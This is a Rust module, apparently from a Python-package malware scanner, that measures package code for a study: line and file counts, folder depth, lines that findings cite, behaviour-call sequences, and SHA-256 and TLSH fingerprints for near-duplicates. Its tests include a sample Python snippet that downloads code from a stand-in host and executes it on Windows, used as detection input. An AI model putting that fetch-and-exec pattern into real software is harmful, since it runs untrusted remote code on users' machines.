//! What an artifact's code is like, measured for a study of many (paper sections 1.4 and 1.5): its Python files and
//! lines, which of them findings rest on, the calls in order, and fingerprints that tell near-duplicates.
//!
//! Everything is bounded, and nothing here is judged.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use rustc_hash::FxHashSet;
use sha2::{Digest, Sha256};
use venin_model::{CallClass, Event, EventId, Finding, OriginKind, Site, Trigger};
use venin_python::SourceKind;

use crate::collect::{Collected, Kept, Use};
use crate::pipeline::hex;
use crate::sequence::is_of_behavior;

/// Most calls that are kept.
const MAX_CALLS: usize = 128;
/// Most events that are looked at for them.
const MAX_EVENTS: usize = 20_000;
/// Most files with malicious lines that are listed.
const MAX_FILES: usize = 64;
/// Most conditions that are kept.
const MAX_CONDITIONS: usize = 32;
/// Most bytes of code that go into a fingerprint.
const MAX_FINGERPRINTED: usize = 4 << 20;

/// What an artifact's code is like.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Attributes {
    /// Python source files that were read (`.py`, `.pyw`, and files without extension that are Python).
    pub python_files: u64,
    /// Their physical lines: the study's LOC.
    pub python_lines: u64,
    /// The most folders, the file itself counted, on the way to a Python file; the folder that a source distribution is
    /// packed in does not count.
    pub depth: u32,
    /// Python files in which lines of findings lie, by path.
    pub malicious_files: Vec<MaliciousFile>,
    /// The conditions under which calls of the behavior sequence happen, sorted: `sys.platform=win32`.
    pub conditions: Vec<String>,
    /// The calls of the behavior sequence in order of trigger, without immediate repetitions.
    pub calls: Vec<CallTokens>,
    /// How many further calls were left out.
    pub omitted_calls: u64,
    /// SHA-256 in hexadecimal of the normal form of all Python sources: equal for copies that differ in names of files,
    /// comments, indentation and empty lines only.  `None` without sources.
    pub normal_sha256: Option<String>,
    /// TLSH of the normal form of the files with malicious lines, of all sources where there are none; `None` for what
    /// is too short or too uniform for TLSH.
    pub tlsh: Option<String>,
}

/// A Python file in which lines of findings lie.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MaliciousFile {
    /// Its path.
    pub path: String,
    /// Folders on the way, the file itself counted.
    pub depth: u32,
    /// Physical lines.
    pub lines: u64,
    /// Different physical lines that evidence of findings with a behavior covers: the study's LOM.
    pub malicious_lines: u64,
    /// Lines from the first of these to the last.
    pub extent: u64,
}

/// A call as tokens for a comparison of sequences.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CallTokens {
    /// What makes it run.
    pub trigger: Trigger,
    /// Its class.
    pub class: CallClass,
    /// Its qualified name.
    pub name: Arc<str>,
    /// Its parameters, each by its role and where it came from: `url:literal`.
    pub parameters: Vec<String>,
    /// Whether a finding rests on it.
    pub is_cited: bool,
}

/// Measures an artifact's code.
pub(crate) fn measure_attributes(
    collected: &Collected,
    findings: &[Finding],
    events: &[Event],
) -> Attributes {
    let sources: Vec<&Kept> = collected.kept.iter().filter(|kept| is_python(kept)).collect();
    let top = common_folder(&sources);
    let depth_of = |path: &str| depth(path.get(top.len()..).unwrap_or(path));
    let covered = covered_lines(findings);
    let mut malicious_files: Vec<MaliciousFile> = sources
        .iter()
        .filter_map(|kept| {
            let lines = covered.get(&*kept.path)?;
            measure_file(kept, lines, depth_of(&kept.path))
        })
        .collect();
    malicious_files.sort_by(|a, b| a.path.cmp(&b.path));
    let (calls, omitted_calls) = list_calls(findings, events);
    let marked: BTreeSet<&str> = malicious_files.iter().map(|file| file.path.as_str()).collect();
    let is_marked = |kept: &&&Kept| marked.is_empty() || marked.contains(&*kept.path);
    let fingerprinted: Vec<&Kept> = sources.iter().filter(is_marked).copied().collect();
    let attributes = Attributes {
        python_files: sources.len() as u64,
        python_lines: sources.iter().map(|kept| count_lines(kept.content.as_bytes())).sum(),
        depth: sources.iter().map(|kept| depth_of(&kept.path)).max().unwrap_or(0),
        conditions: list_conditions(findings, events),
        calls,
        omitted_calls,
        normal_sha256: (!sources.is_empty()).then(|| hex(&Sha256::digest(normal_form(&sources)))),
        tlsh: fuzzy_digest(&normal_form(&fingerprinted)),
        malicious_files: Vec::new(),
    };
    malicious_files.truncate(MAX_FILES);
    Attributes { malicious_files, ..attributes }
}

fn is_python(kept: &Kept) -> bool {
    kept.use_ == Use::Source(SourceKind::Python)
}

/// Physical lines: a last line without an end counts.
fn count_lines(bytes: &[u8]) -> u64 {
    let ends = memchr::memchr_iter(b'\n', bytes).count() as u64;
    ends + u64::from(bytes.last().is_some_and(|last| *last != b'\n'))
}

/// The folder, with its `/`, that all sources lie in and in which no source lies directly: what a source distribution is
/// packed in.
fn common_folder<'a>(sources: &[&'a Kept]) -> &'a str {
    let first = |kept: &&'a Kept| {
        let path: &'a str = &kept.path;
        path.split_once('/').map(|(folder, _)| path.get(..=folder.len()).unwrap_or(""))
    };
    let mut folders = sources.iter().map(first);
    let Some(Some(folder)) = folders.next() else { return "" };
    // A wheel has its packages at the root; a source distribution is packed in `name-version`.
    if folder.contains('-') && folders.all(|other| other == Some(folder)) { folder } else { "" }
}

fn depth(path: &str) -> u32 {
    u32::try_from(path.split('/').filter(|part| !part.is_empty()).count()).unwrap_or(u32::MAX)
}

/// The physical lines, by member, that evidence of findings with a behavior covers; of a decoded layer, the lines of the
/// call that executes it.
fn covered_lines(findings: &[Finding]) -> BTreeMap<&str, BTreeSet<u32>> {
    let mut covered: BTreeMap<&str, BTreeSet<u32>> = BTreeMap::new();
    let of_behavior = findings.iter().filter(|finding| finding.behavior.is_some());
    let sites = of_behavior.flat_map(|finding| {
        finding.site.iter().chain(finding.evidence.iter().filter_map(|evidence| evidence.site.as_ref()))
    });
    for Site { member, line, end_line, .. } in sites {
        // A place without a column is "the whole member", which no line stands for.
        let last = (*end_line).max(*line).min(line.saturating_add(10_000));
        covered.entry(member).or_default().extend(*line..=last);
    }
    covered
}

fn measure_file(kept: &Kept, covered: &BTreeSet<u32>, depth: u32) -> Option<MaliciousFile> {
    let lines = count_lines(kept.content.as_bytes());
    let within = |line: &&u32| u64::from(**line) <= lines;
    let (first, last) = (covered.iter().find(within)?, covered.iter().rev().find(within)?);
    Some(MaliciousFile {
        path: kept.path.to_string(),
        depth,
        lines,
        malicious_lines: covered.iter().filter(within).count() as u64,
        extent: u64::from(last - first) + 1,
    })
}

fn list_conditions(findings: &[Finding], events: &[Event]) -> Vec<String> {
    let cited = cited_events(findings);
    let told = is_of_behavior(&cited, events);
    let conditions = events.iter().filter(|event| told(event)).flat_map(|event| &event.conditions);
    let written: BTreeSet<String> = conditions
        .map(|condition| match &condition.value {
            Some(value) => format!("{}={}", condition.subject, value.chars().take(80).collect::<String>()),
            None => condition.subject.to_string(),
        })
        .collect();
    written.into_iter().take(MAX_CONDITIONS).collect()
}

fn cited_events(findings: &[Finding]) -> FxHashSet<EventId> {
    findings
        .iter()
        .flat_map(|finding| finding.evidence.iter().filter_map(|evidence| evidence.event))
        .collect()
}

/// The calls of the behavior sequence: those that sequences tell, without their bound on steps.
fn list_calls(findings: &[Finding], events: &[Event]) -> (Vec<CallTokens>, u64) {
    let cited = cited_events(findings);
    let told = is_of_behavior(&cited, events);
    let mut calls: Vec<CallTokens> = Vec::new();
    let mut omitted = 0;
    for trigger in Trigger::ALL.iter().copied() {
        let of_trigger = events.iter().filter(|event| event.trigger == trigger);
        for event in of_trigger.filter(|event| told(event)).take(MAX_EVENTS) {
            let call = tokens_of(event, cited.contains(&event.id));
            let is_repeated =
                calls.last().is_some_and(|last| last.name == call.name && last.parameters == call.parameters);
            if is_repeated {
                continue;
            }
            if calls.len() < MAX_CALLS { calls.push(call) } else { omitted += 1 }
        }
    }
    (calls, omitted)
}

fn tokens_of(event: &Event, is_cited: bool) -> CallTokens {
    let parameters = event.arguments.iter().take(8).map(|argument| {
        let origins: Vec<&str> = argument.origins.kinds.iter().map(OriginKind::as_str).collect();
        format!(
            "{}:{}",
            argument.role,
            if origins.is_empty() { "unknown".to_owned() } else { origins.join("+") }
        )
    });
    CallTokens {
        trigger: event.trigger,
        class: event.class,
        name: Arc::clone(&event.name),
        parameters: parameters.collect(),
        is_cited,
    }
}

/// Code without what copies differ in: indentation, trailing blanks, empty lines and comment lines.
fn normal_form(sources: &[&Kept]) -> Vec<u8> {
    let mut sorted: Vec<&&Kept> = sources.iter().collect();
    sorted.sort_by(|a, b| a.path.cmp(&b.path));
    let mut out = Vec::new();
    for kept in sorted {
        for line in kept.content.as_bytes().split(|byte| *byte == b'\n') {
            let line = line.trim_ascii();
            if line.is_empty() || line.starts_with(b"#") {
                continue;
            }
            if out.len() + line.len() > MAX_FINGERPRINTED {
                return out;
            }
            out.extend_from_slice(line);
            out.push(b'\n');
        }
    }
    out
}

/// TLSH with a one-byte checksum and 128 buckets, as other tools write it.
fn fuzzy_digest(text: &[u8]) -> Option<String> {
    let mut builder = tlsh2::TlshDefaultBuilder::new();
    builder.update(text);
    let hash = builder.build()?.hash();
    std::str::from_utf8(&hash).ok().map(ToOwned::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Input, Listing, Options, Scanner, TreeMember};
    use venin_rules::RuleSet;

    fn measure(members: &[(&str, &str)]) -> Attributes {
        let members: Vec<TreeMember> = members
            .iter()
            .map(|(path, text)| TreeMember { path: (*path).to_owned(), bytes: text.as_bytes().to_vec() })
            .collect();
        let options = Options { listing: Listing::Attributes, ..Options::default() };
        let scanner = Scanner::new(RuleSet::builtin(), options);
        let scan = || scanner.scan(&Input::Tree { name: "demo", members: &members }).attributes.unwrap();
        std::thread::scope(|scope| {
            let thread = std::thread::Builder::new().stack_size(256 << 20);
            thread.spawn_scoped(scope, scan).unwrap().join().unwrap()
        })
    }

    const FETCH_AND_RUN: &str = "import urllib.request\nimport sys\n\nif sys.platform == 'win32':\n    \
        exec(urllib.request.urlopen('http://bad.invalid/p').read())\n\nprint('ready')";

    #[test]
    fn lines_files_and_depth_are_counted() {
        let found =
            measure(&[("pkg/__init__.py", ""), ("pkg/deep/er.py", "a = 1\nb = 2"), ("data.txt", "x\ny\n")]);
        assert_eq!((found.python_files, found.python_lines, found.depth), (2, 2, 3));
        assert!(found.malicious_files.is_empty());
    }

    #[test]
    fn the_folder_of_a_source_distribution_is_no_depth() {
        let found = measure(&[("demo-1.0/setup.py", "x = 1\n"), ("demo-1.0/demo/__init__.py", "\n")]);
        assert_eq!(found.depth, 2);
    }

    #[test]
    fn malicious_lines_are_those_that_findings_rest_on() {
        let found = measure(&[("pkg/__init__.py", FETCH_AND_RUN), ("pkg/b.py", "x = 1\n")]);
        let [file] = found.malicious_files.as_slice() else { panic!("{:?}", found.malicious_files) };
        assert_eq!(
            (file.path.as_str(), file.lines, file.malicious_lines, file.extent),
            ("pkg/__init__.py", 7, 1, 1)
        );
        assert_eq!(found.conditions, ["sys.platform=win32"]);
        let names: Vec<&str> = found.calls.iter().map(|call| &*call.name).collect();
        assert!(names.contains(&"urllib.request.urlopen"), "{names:?}");
        assert!(
            found.calls.iter().any(|call| call.parameters.contains(&"url:literal".to_owned())),
            "{:?}",
            found.calls
        );
    }

    #[test]
    fn copies_that_differ_in_comments_and_indentation_have_one_normal_form() {
        let a = measure(&[("a/__init__.py", "# first\nif True:\n    print('x')\n")]);
        let b = measure(&[("b/__init__.py", "if True:\n\n        print('x')   \n")]);
        assert_eq!(a.normal_sha256, b.normal_sha256);
        assert!(measure(&[("data.txt", "x")]).normal_sha256.is_none());
    }

    #[test]
    fn similar_code_has_a_near_fuzzy_digest() {
        let lines: Vec<String> =
            (0..60).map(|n| format!("value_{n} = compute({n}, 'text {}')", n * 7 % 13)).collect();
        let text = lines.join("\n");
        let a = measure(&[("a.py", text.as_str())]).tlsh.unwrap();
        let b = measure(&[("b.py", text.replace("value_30", "other_name").as_str())]).tlsh.unwrap();
        let parse = |hash: &str| hash.parse::<tlsh2::TlshDefault>().unwrap();
        assert!(parse(&a).diff(&parse(&b), true) < 30);
    }
}
